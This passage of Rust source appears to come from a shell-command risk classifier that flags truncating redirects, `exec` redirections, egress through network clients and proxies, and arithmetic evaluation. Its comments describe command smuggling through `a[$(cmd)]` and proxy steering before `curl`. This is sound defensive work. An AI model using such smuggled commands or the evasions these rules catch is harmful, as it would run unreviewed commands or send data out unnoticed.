/// command reads (`sort f > f`, `sort < f > f` empty f before sort reads
/// it); `tee`/`sponge` fed nothing (`tee f < /dev/null`, `: | tee f`),
/// `tee` fed the file it writes (`tee f < f`).
fn truncations(argv: &[Arg], redirects: &[&IoRedirect], fed_nothing: bool) -> Vec<Verdict> {
    let argv = emptying_words(argv);
    // (`&> f` empties f as `> f` does; review 103.)
    let written = |r: &IoRedirect| match r {
        IoRedirect::File(
            _,
            IoFileRedirectKind::Write | IoFileRedirectKind::Clobber,
            IoFileRedirectTarget::Filename(w),
        )
        | IoRedirect::OutputAndError(w, false) => Some(w.clone()),
        // (`>& FILE`: a file's name, not a descriptor's number, is `&>`.)
        IoRedirect::File(
            None | Some(1),
            IoFileRedirectKind::DuplicateOutput,
            IoFileRedirectTarget::Filename(w),
        ) if !w.value.bytes().all(|b| b.is_ascii_digit() || b == b'-') => Some(w.clone()),
        _ => None,
    };
    let writes = |r: &&IoRedirect| written(r).is_some();
    let copies_input = matches!(argv.first().and_then(Arg::literal), Some("tee" | "sponge"));
    if !copies_input && !redirects.iter().any(writes) {
        return Vec::new();
    }
    let lits: Vec<&str> = argv.iter().filter_map(Arg::literal).collect();
    let silent = match lits.as_slice() {
        [] => argv.is_empty(),
        ["cat"] => fed_nothing,
        lits => prints_nothing(lits),
    };
    // The file its input is redirected from (the last `<`).
    let input_file = redirects.iter().rev().find_map(|r| match r {
        IoRedirect::File(
            None | Some(0),
            IoFileRedirectKind::Read,
            IoFileRedirectTarget::Filename(w),
        ) => words::analyse(&w.value).arg.literal().map(str::to_string),
        _ => None,
    });
    let home = crate::secret_paths::Folders::home();
    let empties = |target: &Arg| {
        Verdict::destructive(format!("empties {}, losing what it held", target.raw()))
    };
    let mut out = Vec::new();
    if copies_input && !lits.iter().any(|w| matches!(*w, "-a" | "--append")) {
        for file in argv[1..]
            .iter()
            .filter(|a| a.literal().is_none_or(|w| !w.starts_with('-')))
        {
            // (sponge soaks up its input before it opens the file: `sponge
            // f < f` is the safe way to write a file in place.)
            let fed_itself =
                lits[0] == "tee" && input_file.is_some() && file.literal() == input_file.as_deref();
            if (fed_nothing || fed_itself)
                && rules::write_target(file, &home).class == RiskClass::ConfigMutation
            {
                out.push(empties(file));
            }
        }
    }
    for redirect in redirects {
        let Some(w) = written(redirect) else {
            continue;
        };
        let target = words::analyse(&w.value).arg;
        if rules::write_target(&target, &home).class != RiskClass::ConfigMutation {
            continue;
        }
        let reads_it = target.literal().is_some_and(|t| {
            lits.iter().skip(1).any(|a| *a == t) || input_file.as_deref() == Some(t)
        });
        if silent || reads_it {
            out.push(empties(&target));
        }
    }
    out
}

/// `find`'s arguments without its `-exec`/`-execdir`/`-ok`/`-okdir`
/// blocks (up to `;` or `+`).
fn without_exec_blocks(args: &[Arg]) -> Vec<Arg> {
    let mut out = Vec::with_capacity(args.len());
    let mut i = 0;
    while i < args.len() {
        if let Some("-exec" | "-execdir" | "-ok" | "-okdir") = args[i].literal() {
            i = rules::programs::exec_block_end(args, i + 1) + 1;
            continue;
        }
        out.push(args[i].clone());
        i += 1;
    }
    out
}

/// Whether an operand of `[[ x -eq y ]]` reads variables once evaluated.
fn arithmetic_operand_reads_variables(arg: &Arg) -> bool {
    match arg.literal() {
        Some(text) => words::arithmetic_reads_variables(text),
        None => true,
    }
}

/// Arithmetic (or a subscript, or `${!name}`) over variable contents: bash
/// evaluates the contents too, and a subscript in them (`a[$(cmd)]`) runs
/// a command, so what runs depends on data nobody reviewed.
fn evaluation() -> Verdict {
    Verdict::mutation(
        "evaluates variable contents as arithmetic or a name, where a hidden `a[$(cmd)]` runs a command",
    )
}

/// Whether the words are an `exec` that runs no command, whose
/// redirections stay on the shell: `exec`, its options (`-c`, `-l`, `-a
/// NAME`, clusters, `--`), through `command` and its options (bash's
/// execute_cmd.c keeps `command exec`'s redirections; reviews 94, 95). A
/// word only known at run time may be empty: it counts as none.
fn exec_without_command(argv: &[Arg]) -> bool {
    // (`command`'s own options first: `command -p exec`, `command --
    // exec`; `-v`/`-V` only look the name up. Not `builtin exec`, whose
    // redirections bash undoes; review 95.)
    let mut words = argv.iter().peekable();
    if words.peek().and_then(|a| a.literal()) == Some("command") {
        words.next();
        while let Some(option) = words
            .peek()
            .and_then(|a| a.literal())
            .filter(|w| w.starts_with('-'))
        {
            if option != "--" && option.contains(['v', 'V']) {
                return false;
            }
            words.next();
            if option == "--" {
                break;
            }
        }
    }
    if words.next().and_then(Arg::literal) != Some("exec") {
        return false;
    }
    while let Some(word) = words.next() {
        match word.literal() {
            None => continue,
            Some("--") => return words.all(|w| w.literal().is_none()),
            Some(option) if option.starts_with('-') && option.len() > 1 => {
                // (`-a NAME`: the name is the next word unless stuck.)
                if option.ends_with('a') {
                    words.next();
                }
            }
            Some(_) => return false,
        }
    }
    true
}

/// A read-only verdict stands only with a proof from the program's table
/// of harmless options ([`options::prove`]); where the program runs another
/// command (`nice CMD`), that command, found as the program's own parser
/// finds it, is judged too.
fn proven(
    walker: &mut Walker,
    verdict: Verdict,
    name: &str,
    args: &[Arg],
    stdin: Stdin<'_>,
    depth: usize,
) -> Verdict {
    if verdict.class != RiskClass::ReadOnly {
        return verdict;
    }
    // (A project in a folder others write, read by helm or compose: asked
    // where the rest of the line would only read; review 123.)
    if let Some(asked) = rules::projects::judge(name, args, &walker.folders) {
        return asked;
    }
    // (git in a folder only known at run time, which may be a guest's
    // repository; review 125.)
    if name == "git" && walker.folders.unknown() {
        let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
        if let Some(why) = rules::git_guest_repository(&lits, &walker.folders) {
            return Verdict::mutation(format!(
                "`git` runs in a folder only known at run time, which may be a guest's: {why}"
            ));
        }
    }
    // runuser(1) without `-u` reads its line as su does (`runuser
    // postgres -c CMD`): su's table proves it.
    let name = if name == "runuser" && !rules::runuser_names_user(args) {
        "su"
    } else {
        name
    };
    // `find`'s `-exec … ;` blocks are judged by its rules, command and
    // all (`{}` stands for paths under the starting points, never an
    // option); the table proves the rest of the expression.
    let stripped;
    let args = if name == "find" {
        stripped = without_exec_blocks(args);
        &stripped[..]
    } else {
        args
    };
    // (A word whose substitutions each print a number is its text with a
    // number in each, when that starts with no `-`: `sed "$(wc -l <
    // f)q"`; review 120.)
    let numbered = numbered_args(args);
    let args = numbered.as_deref().unwrap_or(args);
    // (A Proxmox CLI's command words by a unique prefix, as its parser
    // takes them: `qm conf 100` is `qm config 100`; review 135. Not an
    // alias's target, whose words are more: the proof's places are the
    // line's.)
    let spelled = rules::pve_command_words(name, args).filter(|s| s.len() == args.len());
    let args = spelled.as_deref().unwrap_or(args);
    if let Some(verdict) = glob_may_be_option(name, args) {
        return verdict;
    }
    // bash's `kill` reads words after its signal as process ids, whatever
    // they start with: with signal 0 (`kill -0 $(pidof nginx)`) none of
    // them can be an option that does anything.
    if name == "kill" && rules::signal_zero_first(args) {
        return verdict;
    }
    // (A CLI's help, asked as its parser takes it: `docker rm --help`.)
    if rules::asks_for_help(name, args) {
        return verdict;
    }
    let table = tables::spec(name, args);
    // (ssh's command is one script for the remote shell.)
    let joined = table.is_some_and(|(spec, _)| {
        matches!(
            spec.operands,
            options::Operands::Command { joined: true, .. }
        )
    });
    let runs_command =
        table.is_some_and(|(spec, _)| matches!(spec.operands, options::Operands::Command { .. }));
    let proof = match table {
        Some((spec, words)) => options::prove(spec, &args[words..]).map(|p| match p {
            options::Proof::Runs(i) => options::Proof::Runs(words + i),
            other => other,
        }),
        None => Err(options::Unproven::NoTable),
    };
    // A run-time word of a program that only shows names and sizes, none
    // of whose options writes or runs (`ls -l /proc/$(…)/fd`): whatever
    // words it becomes, the program only looks.
    let proof = match proof {
        Err(options::Unproven::Dynamic(_)) if rules::LOOKS_ONLY.contains(&name) => {
            Ok(options::Proof::ReadOnly)
        }
        Err(options::Unproven::Dynamic(_))
            if matches!(name, "[" | "test") && rules::test_operands_only(name, args) =>
        {
            Ok(options::Proof::ReadOnly)
        }
        other => other,
    };
    // Where it sends data, whether or not it runs a command (`ssh HOST CMD`).
    if proof.is_ok() {
        let operands = tables::operands(name, args);
        if let Some(verdict) = egress::outside(&walker.egress, name, &operands, args) {
            return verdict;
        }
        // (A proxy or a server a statement set before it, which the
        // session may export: `https_proxy=…; curl …`; review 88.)
        let client = matches!(
            name,
            "etcdctl"
                | "vault"
                | "bao"
                | "psql"
                | "pg_isready"
                | "mysql"
                | "mariadb"
                | "mysqladmin"
                | "influx"
                | "redis-cli"
                | "valkey-cli"
                | "docker"
                | "podman"
                | "kubectl"
                | "helm"
                | "crictl"
                | "k3s"
        );
        if (egress::reaches(name) || client)
            && let Some(set) = &walker.steered
        {
            return Verdict::mutation(format!(
                "`{name}` may connect through {set}, set earlier in the command, wherever it points"
            ));
        }
    }
    match proof {
        Ok(options::Proof::ReadOnly) => verdict,
        // (xargs's rule judged its command with the words its input adds,
        // each of a few written ones in turn: `{}` alone is no host.)
        Ok(options::Proof::Runs(_)) if name == "xargs" => verdict,
        // (Nor `docker exec`'s, judged by its rule in the container's
        // working folder: `php occ status` there is the application's.)
        Ok(options::Proof::Runs(_))
            if matches!(name, "docker" | "podman")
                && args
                    .iter()
                    .filter_map(Arg::literal)
                    .find(|a| !a.starts_with('-'))
                    == Some("exec") =>
        {
            verdict
        }
        Ok(options::Proof::Runs(i)) => {
            let inner = run_apart(walker, name, &args[i..], joined, stdin, depth);
            verdict.max(inner.prefixed(&format!("via `{name}`: ")))
        }
        Err(why) => unproven(name, args, why, runs_command),
    }
}

#[cfg(test)]
mod generated;
#[cfg(test)]
mod tests;

/// The words an unquoted brace list or range of plain words makes
/// ([`words::brace_words`]): `/etc/{hostname,hosts}` is two literal words
/// (options among them read as options: `{-delete,x}`); `None` for any
/// other word, or one that makes more than 64.
fn brace_args(raw: &str) -> Option<Vec<Arg>> {
    if raw.contains(['\'', '"', '\\', '$', '`', '~', '*', '?', '[']) {
        return None;
    }
    let (words, _) = words::brace_words(raw)?;
    (words.len() <= 64).then(|| words.into_iter().map(Arg::literal_of).collect())
}

#[cfg(test)]
mod risk_class_tests {
    use super::*;

    #[test]
    fn classes_order_and_round_trip() {
        assert!(RiskClass::ReadOnly < RiskClass::ConfigMutation);
        assert!(RiskClass::ConfigMutation < RiskClass::Destructive);
        for class in [
            RiskClass::ReadOnly,
            RiskClass::ConfigMutation,
            RiskClass::Destructive,
        ] {
            assert_eq!(class.as_str().parse::<RiskClass>(), Ok(class));
            assert_eq!(
                serde_json::to_value(class).ok(),
                Some(serde_json::json!(class.as_str()))
            );
        }
        assert!("readonly".parse::<RiskClass>().is_err());
    }
}
